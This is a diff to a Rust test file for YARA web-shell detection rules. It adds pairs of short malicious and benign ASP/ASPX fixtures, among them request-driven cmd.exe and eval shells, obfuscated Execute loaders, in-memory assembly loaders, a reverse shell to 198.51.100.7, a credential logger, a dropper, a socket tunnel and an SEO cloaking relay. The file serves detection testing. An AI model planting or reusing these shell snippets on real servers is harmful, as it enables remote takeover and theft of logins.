@@ -13,9 +13,17 @@ fn rules() -> &'static exray_yara::YaraRules {
     R.get_or_init(|| exray_yara::builtin().expect("built-in rules compile"))
 }
 
+/// Fixture text; one that starts with `UTF16:` is scanned as UTF-16LE with a byte-order mark.
 fn hits(data: &str) -> BTreeSet<String> {
+    let bytes: Vec<u8> = match data.strip_prefix("UTF16:") {
+        Some(t) => [0xFF, 0xFE]
+            .into_iter()
+            .chain(t.encode_utf16().flat_map(u16::to_le_bytes))
+            .collect(),
+        None => data.as_bytes().to_vec(),
+    };
     let mut s = rules().scanner();
-    s.scan("fixture", data.as_bytes())
+    s.scan("fixture", &bytes)
         .expect("scan")
         .into_iter()
         .map(|h| h.meta.id)
@@ -239,6 +247,131 @@ fn cases() -> Vec<Case> {
             "<%\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.GetFile(Server.MapPath(\"report.txt\"))\nIf f.Attributes And 1 Then Response.Write \"read-only\"\nResponse.Write Server.HTMLEncode(Request(\"q\"))\n%>\n",
         ),
         case(
+            "EXRAY_Request_Process_Start",
+            "<%@ Page Language=\"VB\" %>\n<%\nDim c As String = Request.Params.Get(\"q\")\nDim si As New System.Diagnostics.ProcessStartInfo()\nsi.FileName = \"cmd.exe\"\nsi.Arguments = \"/c \" & c\nsi.RedirectStandardOutput = True\nDim p As New System.Diagnostics.Process()\np.StartInfo = si\nCallByName(p, \"Start\", CallType.Method)\nResponse.Write(p.StandardOutput.ReadToEnd())\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<% var id = Request.QueryString[\"id\"];\nvar item = Catalog.Find(id);\nResponse.Write(Server.HtmlEncode(item.Name));\nSystem.Diagnostics.Trace.WriteLine(\"viewed \" + id); %>\n",
+        ),
+        case(
+            "EXRAY_Process_Output_Page",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object s, EventArgs e) {\n  var si = new System.Diagnostics.ProcessStartInfo(tool.Value, args.Value);\n  si.UseShellExecute = false;\n  si.RedirectStandardOutput = true;\n  var p = System.Diagnostics.Process.Start(si);\n  result.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><input id=\"tool\" runat=\"server\" /><input id=\"args\" runat=\"server\" /><asp:Label id=\"result\" runat=\"server\" /></form>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  var p = System.Diagnostics.Process.GetCurrentProcess();\n  uptime.Text = (DateTime.Now - p.StartTime).ToString();\n}\n</script>\n<asp:Label id=\"uptime\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_ASP_Object_Tag_Shell",
+            "<object runat=\"server\" id=\"sh\" scope=\"page\" classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<%\nResponse.Write sh.Exec(Request(\"c\")).StdOut.ReadAll()\n%>\n",
+            "<object id=\"player\" classid=\"clsid:6BF52A52-394A-11d3-B153-00C04F79FAA6\" width=\"320\" height=\"240\"><param name=\"URL\" value=\"intro.wmv\" /></object>\n<% Response.Write Now() %>\n",
+        ),
+        case(
+            "EXRAY_ASP_Chr_Assembled_Execute",
+            "<%\nDim a, i, s\na = Array(101, 118, 97, 108, 40, 114, 101, 113, 117, 101, 115, 116, 40, 34, 122, 34, 41, 41)\nFor i = 0 To UBound(a)\n  s = s & Chr(a(i))\nNext\nExecute(s)\n%>\n",
+            "<%\nDim line\nline = \"Name\" & Chr(9) & \"Value\" & Chr(13) & Chr(10)\nResponse.Write Replace(line, Chr(34), \"&quot;\")\n%>\n",
+        ),
+        case(
+            "EXRAY_Execute_Decoder_Output",
+            "<%\nbody = Request.BinaryRead(Request.TotalBytes)\nexecute(Decrypt(body))\n%>\n",
+            "<%\nSet rs = conn.Execute(\"SELECT name FROM users\")\nResponse.Write Server.HTMLEncode(Replace(rs(\"name\"), \"_\", \" \"))\n%>\n",
+        ),
+        case(
+            "EXRAY_JScript_Eval_Request_Split",
+            "<%@ Page Language=\"JScript\" %>\n<% eval/*x*/(/*y*/Request/*z*/.Item[\"k\"], \"un\" + \"safe\"); %>\n",
+            "<%@ Page Language=\"JScript\" %>\n<% /* show the request path */ Response.Write(Server.HtmlEncode(Request.Path)); %>\n",
+        ),
+        case(
+            "EXRAY_NET_Assembly_From_Request",
+            "<%@ Page Language=\"C#\" %>\n<% var k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");\nvar d = Convert.FromBase64String(Request.Form[\"p\"]);\nd = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\nvar t = typeof(System.Reflection.Assembly);\nvar a = t.GetMethod(System.Text.Encoding.UTF8.GetString(new byte[]{76, 111, 97, 100}), new Type[]{typeof(byte[])}).Invoke(null, new object[]{d});\na.GetType().GetMethod(\"CreateInstance\", new Type[]{typeof(string)}).Invoke(a, new object[]{\"X\"}); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% var asm = typeof(Page).Assembly;\nversion.Text = asm.GetName().Version.ToString();\nvar q = Request.QueryString[\"lang\"]; %>\n<asp:Label id=\"version\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_NET_Embedded_Assembly_Loader",
+            "<%@ Page Language=\"C#\" %>\n<% object o = System.Reflection.Assembly.Load(Convert.FromBase64String(\"TVqQAAMAAAAEAAAA\")).CreateInstance(\"G\");\no.GetType().GetMethod(\"Go\").Invoke(o, null); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% var img = Convert.FromBase64String(\"iVBORw0KGgo=\");\nResponse.ContentType = \"image/png\";\nResponse.BinaryWrite(img); %>\n",
+        ),
+        case(
+            "EXRAY_NET_Memory_Shell_Install",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Web.Hosting\" %>\n<script runat=\"server\">\nclass P : VirtualPathProvider { }\nvoid Page_Load(object s, EventArgs e) { HostingEnvironment.RegisterVirtualPathProvider(new P()); }\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { link.NavigateUrl = GetRouteUrl(\"product\", new { id = 3 }); }\n</script>\n<asp:HyperLink id=\"link\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_NET_Shellcode_Runner",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr id);\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"user32\")] static extern int MessageBeep(uint t);\nvoid Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(); }\n</script>\n",
+        ),
+        case(
+            "EXRAY_Socket_Tunnel_Request",
+            "<%@ Page Language=\"C#\" %>\n<% string h = Request.Headers[\"X-H\"]; int port = int.Parse(Request.Headers[\"X-P\"]);\nvar s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\ns.Connect(h, port); Session[\"s\"] = s;\nvar buf = Request.BinaryRead(Request.ContentLength); s.Send(buf);\nvar r = new byte[4096]; int n = s.Receive(r); Response.BinaryWrite(r); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(\"smtp.corp.example\", 25); status.Text = c.Connected ? \"up\" : \"down\"; } %>\n<asp:Label id=\"status\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_Remote_Fetch_To_Disk",
+            "<%\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Request(\"u\"), False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write h.responseBody\nst.SaveToFile Server.MapPath(Request(\"f\")), 2\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<% using (var w = new System.Net.WebClient()) { var json = w.DownloadString(\"https://api.corp.example/rates\"); rates.Text = Server.HtmlEncode(json); } %>\n<asp:Label id=\"rates\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_Remote_Content_Relay",
+            "<%\nsrc = \"http://mirror.example.net/pages/\"\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", src & Request.ServerVariables(\"QUERY_STRING\"), False\nh.Send\nResponse.BinaryWrite h.responseBody\n%>\n",
+            "<%\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Application(\"FeedUrl\"), False\nh.Send\nSet doc = h.responseXML\nResponse.Write Server.HTMLEncode(doc.documentElement.text)\n%>\n",
+        ),
+        case(
+            "EXRAY_UTF16_Server_Script_Exec",
+            "UTF16:<%@ Page Language=\"Jscript\"%><% var k = \"z\"; eval(Request.Item[k]); %>",
+            "<%@ Page Language=\"C#\" %>\n<% Response.Write(\"caf\u{e9} \u{2013} ok\"); %>\n",
+        ),
+        case(
+            "EXRAY_ASP_Execute_Assembled_String",
+            "<%\nDim v\nv = \"e\"\nv = v & \"v\"\nv = v & \"a\"\nv = v & \"l\"\nExecute(v & \"(request(\"\"z\"\"))\")\n%>\n",
+            "<%\nDim parts\nparts = Split(Request(\"tags\"), \",\")\nResponse.Write Server.HTMLEncode(Join(parts, \" | \"))\n%>\n",
+        ),
+        case(
+            "EXRAY_ASP_Eval_Wrapper_Function",
+            "<%Function Run(s) Execute s End Function%><%x = Request(\"z\")%><%Run x%>\n",
+            "<%Function Twice(n) Twice = n * 2 End Function%><%x = Request(\"n\")%><%=Twice(CInt(x))%>\n",
+        ),
+        case(
+            "EXRAY_Dropper_Embedded_Page",
+            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var w = System.IO.File.CreateText(c.Server.MapPath(\"x.aspx\"));\n  w.Write(\"<%@ Page Language=\\\"Jscript\\\"%\" + \"><%eval(Request.Item[\\\"k\\\"],\\\"unsafe\\\");%>\");\n  w.Close();\n }\n public bool IsReusable { get { return false; } }\n}\n",
+            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var w = System.IO.File.CreateText(c.Server.MapPath(\"~/App_Data/log.txt\"));\n  w.Write(\"visited \" + System.DateTime.Now);\n  w.Close();\n }\n public bool IsReusable { get { return false; } }\n}\n",
+        ),
+        case(
+            "EXRAY_Credential_Logger",
+            "<%\nu = Request.Form(\"user\")\np = Request.Form(\"password\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\".\") & \"\\l.txt\", 8, True)\nf.WriteLine u & \":\" & p & \":\" & Request.ServerVariables(\"REMOTE_ADDR\")\nf.Close\n%>\n",
+            "<%\nu = Request.Form(\"user\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"visits.log\"), 8, True)\nf.WriteLine Now() & \" \" & u\nf.Close\n%>\n",
+        ),
+        case(
+            "EXRAY_NET_Native_Process_Create",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32.dll\")]\nstatic extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inh, uint f, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32.dll\")]\nstatic extern uint GetTickCount();\n</script>\n",
+        ),
+        case(
+            "EXRAY_NET_PowerShell_Host",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation.Runspaces\" %>\n<script runat=\"server\">\nstring Run(string t) { var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline(); p.Commands.AddScript(t); return p.Invoke().Count.ToString(); }\nvoid Go(object s, EventArgs e) { output.Text = Run(input.Text.Trim()); }\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { help.Text = \"Use the PowerShell cmdlet Get-Mailbox to list mailboxes.\"; }\n</script>\n<asp:Label id=\"help\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_NET_Reverse_Shell",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 443);\n var si = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\");\n si.RedirectStandardInput = true; si.RedirectStandardOutput = true; si.UseShellExecute = false;\n var p = System.Diagnostics.Process.Start(si);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"smtp.corp.example\", 25);\n status.Text = c.Connected ? \"mail relay reachable\" : \"down\";\n}\n</script>\n<asp:Label id=\"status\" runat=\"server\" />\n",
+        ),
+        case(
+            "EXRAY_SEO_Cloaking_Relay",
+            "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Session_Start(object s, EventArgs e) {\n string ua = HttpContext.Current.Request.UserAgent.ToLower();\n if (ua.Contains(\"googlebot\") || ua.Contains(\"baiduspider\")) {\n  var w = new System.Net.WebClient();\n  HttpContext.Current.Response.BinaryWrite(w.DownloadData(\"http://spam.example.net/p\"));\n  HttpContext.Current.Response.End();\n }\n}\n</script>\n",
+            "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Session_Start(object s, EventArgs e) {\n string ua = HttpContext.Current.Request.UserAgent ?? \"\";\n if (ua.Contains(\"Googlebot\")) HttpContext.Current.Items[\"crawler\"] = true;\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_XAMLX_Workflow_Code",
+            "<WorkflowService ConfigurationName=\"S\" Name=\"S\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/servicemodel\">\n <Assign><Assign.Value><InArgument x:TypeArguments=\"x:String\">[System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\").ToString()]</InArgument></Assign.Value></Assign>\n</WorkflowService>\n",
+            "<WorkflowService ConfigurationName=\"Orders\" Name=\"Orders\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/servicemodel\">\n <Assign><Assign.Value><InArgument x:TypeArguments=\"x:String\">[order.Id.ToString()]</InArgument></Assign.Value></Assign>\n</WorkflowService>\n",
+        ),
+        case(
+            "EXRAY_ASP_Session_Key_Xor_Channel",
+            "Function Enc(data)\nkey = Session(\"k\")\nFor i = 1 To Len(data)\nr = r & ChrB(Asc(Mid(data, i, 1)) Xor Asc(Mid(key, (i and 15) + 1, 1)))\nNext\nEnc = r\nEnd Function\n",
+            "Function Mask(data)\nkey = Session(\"salt\")\nFor i = 1 To Len(data)\nr = r & Chr(Asc(Mid(data, i, 1)) + 1)\nNext\nMask = r\nEnd Function\n",
+        ),
+        case(
+            "EXRAY_SQL_Console_Input",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object s, EventArgs e) {\n var con = new System.Data.SqlClient.SqlConnection(this.txtConn.Text);\n var cmd = new System.Data.SqlClient.SqlCommand(this.txtSql.Text, con);\n con.Open(); grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Find(object s, EventArgs e) {\n var con = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString);\n var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * FROM Products WHERE Name = @n\", con);\n cmd.Parameters.AddWithValue(\"@n\", txtName.Text);\n}\n</script>\n",
+        ),
+        case(
             "EXRAY_Exchange_OAB_Settings_Shell",
             &oab_dump("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>"),
             &oab_dump("https://mail.corp.example/OAB"),
@@ -274,6 +407,27 @@ fn cases() -> Vec<Case> {
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
         ),
     ]
+}
+
+/// The OAB-settings rule needs the script inside the ExternalUrl/InternalUrl value, in the
+/// one-setting-per-line layout; a CMS page naming the fields with a script elsewhere is not it.
+#[test]
+fn oab_settings_rule_needs_the_script_in_the_url_value() {
+    let cms = "<%@ Page Language=\"C#\" %>\r\n<h2>Publishing</h2>\r\n<label>ExternalUrl</label> <input id=\"ExternalUrl\" runat=\"server\" />\r\nInternalUrl: <input id=\"InternalUrl\" runat=\"server\" />\r\nOfflineAddressBooks PollInterval RequireSSL\r\n<script type=\"text/javascript\">check();</script>\r\n";
+    assert!(hits(cms).is_empty(), "{:?}", hits(cms));
+    let shell = oab_dump("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>");
+    let wide: Vec<u8> = shell.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let mut s = rules().scanner();
+    let ids: Vec<String> = s
+        .scan("x", &wide)
+        .unwrap()
+        .into_iter()
+        .map(|h| h.meta.id)
+        .collect();
+    assert!(
+        ids.contains(&"EXRAY_Exchange_OAB_Settings_Shell".to_string()),
+        "{ids:?}"
+    );
 }
 
 #[test]
